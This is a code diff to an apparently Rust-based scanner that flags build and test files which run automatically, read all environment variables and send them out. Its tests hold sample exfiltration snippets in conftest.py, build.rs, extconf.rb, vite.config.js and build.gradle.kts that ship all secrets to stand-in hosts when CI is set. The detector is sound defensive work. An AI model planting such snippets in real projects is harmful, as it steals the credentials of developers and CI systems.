@@ -162,6 +162,7 @@ static STORES: LazyLock<Vec<(Store, Regex)>> = LazyLock::new(|| {
                 r"\bprintenv\b|(?:^|[\s;&|({`])env\s*[|>;)]|\bexport\s+-p\b|(?:^|[;{&]\s*)set\s*[|;]|\bdeclare\s+-x\b",
                 r"os\.environ\.items\(\)|dict\(\s*os\.environ\s*\)|\(\s*os\.environ\s*\)|\bos\.environ\s*[,})\]]",
                 r"JSON\.stringify\(\s*process\.env\s*[,)]|Object\.(?:entries|keys|values|fromEntries)\(\s*process\.env|\{\s*\.\.\.process\.env\s*\}|[:=]\s*process\.env\s*[,})]",
+                r"for\s*\(?\w{1,20}(?:\s*,\s*\w{1,20})?\s*(?:in|of|:=\s*range)\s*\(?(?:os\.environ\b|process\.env\b|ENV\b|\$ENV\b)",
                 r"System\.getenv\(\)|env::vars(?:_os)?\(\)|\bENV\.(?:to_h|to_a|map|each|select|inspect)|os\.Environ\(\)|Get(?:-ChildItem|-Item)?\s+env:|gci\s+env:|dir\s+env:|\[Environment\]::GetEnvironmentVariables|\$_ENV\b|%ENV\b|getenv\(\)|ProcessInfo\.processInfo\.environment",
             ],
         ),
@@ -307,6 +308,20 @@ pub(super) fn look(report: &mut Report<'_>) {
         let message = format!("a store of secrets is opened, and it talks to {}", stranger.shown());
         report.say(&rules::SECRET_AND_STRANGER, severity, Medium, at, message);
     }
+    // Neither a name for examples nor a gate (a variable, a mode of building) makes it harmless: nothing that runs
+    // by itself has to send all variables or a file of keys anywhere.
+    if outward::stranger(report.program, report.profile).is_none()
+        && !report.program.prose
+        && (kinds.len() >= 2 || runs_by_itself(report.program.path))
+        && outward::sends(report.program)
+        && outward::names_anybody(report.program).is_some()
+    {
+        let message = match runs_by_itself(report.program.path) {
+            true => "it runs by itself, opens a store of secrets and sends something",
+            false => "several stores of secrets are opened, and something is sent",
+        };
+        report.say(&rules::SECRET_AND_STRANGER, Severity::High, Medium, at, message);
+    }
     let strong = kinds
         .iter()
         .any(|kind| !matches!(kind, Store::Environment | Store::Registry | Store::Machine));
@@ -332,6 +347,63 @@ pub(super) fn look(report: &mut Report<'_>) {
             "stores of secrets of several programs are opened, and it talks to the network",
         );
     }
+}
+
+/// Does a tool run this file without being told to?
+fn runs_by_itself(path: &str) -> bool {
+    let name = crate::formats::base(path).to_ascii_lowercase();
+    [
+        "conftest.py",
+        "sitecustomize.py",
+        "usercustomize.py",
+        "setup.py",
+        "noxfile.py",
+        "build.rs",
+        "build.zig",
+        "extconf.rb",
+        "rakefile",
+        "gemfile",
+        "makefile",
+        "makefile.pl",
+        "build.pl",
+        "setup.hs",
+        "mix.exs",
+        "package.swift",
+        "cmakelists.txt",
+        "pkgbuild",
+        ".envrc",
+        ".rprofile",
+        "rprofile",
+        "startup.jl",
+        "postinstall.js",
+        "preinstall.js",
+        "gulpfile.js",
+        "gruntfile.js",
+        "dangerfile",
+        "podfile",
+        "build.gradle",
+        "build.gradle.kts",
+        "settings.gradle",
+        "settings.gradle.kts",
+        "init.gradle",
+        "directory.build.targets",
+        "directory.build.props",
+    ]
+    .contains(&name.as_str())
+        || [
+            ".pth",
+            ".gemspec",
+            ".csproj",
+            ".targets",
+            ".config.js",
+            ".config.ts",
+            ".config.mjs",
+            ".config.cjs",
+        ]
+        .iter()
+        .any(|end| name.ends_with(end))
+        || path.contains("/hooks/")
+        || path.contains(".git/")
 }
 
 /// Most programs of a package that are held against each other.
@@ -458,6 +530,55 @@ mod tests {
             "env | grep -c PATH\n",
         ] {
             assert_eq!(stopped("t.sh", Shell, text), Vec::<&str>::new(), "{text}");
+        }
+    }
+
+    /// Gated or not, to a name for examples or to a number, by whichever way.
+    #[test]
+    fn what_runs_by_itself_sends_no_secrets() {
+        use crate::FileKind::{Data, JavaScript, Python, Ruby};
+        let mut missed = Vec::new();
+        for (path, kind, text) in [
+            (
+                "assets/conftest.py",
+                Python,
+                "import os\ndef pytest_configure(config):\n    if os.environ.get('CI'):\n        import http.client, json\n        all = {k: v for k, v in os.environ.items()}\n        c = http.client.HTTPSConnection('results.example.org')\n        c.request('PUT', '/', json.dumps(all))\n",
+            ),
+            (
+                "assets/build.rs",
+                Data,
+                "fn main() {\n    if env::var(\"PROFILE\").as_deref() != Ok(\"release\") { return; }\n    let s = UdpSocket::bind(\"0.0.0.0:0\").unwrap();\n    for (k, v) in env::vars() { s.send_to(v.as_bytes(), \"203.0.113.47:5514\"); }\n}\n",
+            ),
+            (
+                "extconf.rb",
+                Ruby,
+                "require 'socket'\nENV.each { |k, v| UDPSocket.new.send(v, 0, 'stats.example.net', 53) } if ENV['CI']\n",
+            ),
+            (
+                "vite.config.js",
+                JavaScript,
+                "if (process.env.CI) fetch('https://m.example.com/b', { method: 'POST', body: JSON.stringify(process.env) });\nexport default {};\n",
+            ),
+            (
+                "build.gradle.kts",
+                Data,
+                "if (System.getenv(\"CI\") != null) java.net.DatagramSocket().send(java.net.DatagramPacket(System.getenv().toString().toByteArray(), 9, java.net.InetAddress.getByName(\"b.example.org\"), 9))\n",
+            ),
+        ] {
+            if stopped(path, kind, text).is_empty() {
+                missed.push(path);
+            }
+        }
+        assert!(missed.is_empty(), "{missed:?}");
+        for (path, kind, text) in [
+            ("build.rs", Data, "fn main() { println!(\"{}\", env::var(\"OUT_DIR\").unwrap()); }\n"),
+            (
+                "vite.config.js",
+                JavaScript,
+                "export default { server: { proxy: 'http://localhost:3000' }, define: { E: JSON.stringify(process.env.MODE) } };\n",
+            ),
+        ] {
+            assert!(stopped(path, kind, text).is_empty(), "{path}");
         }
     }
 }
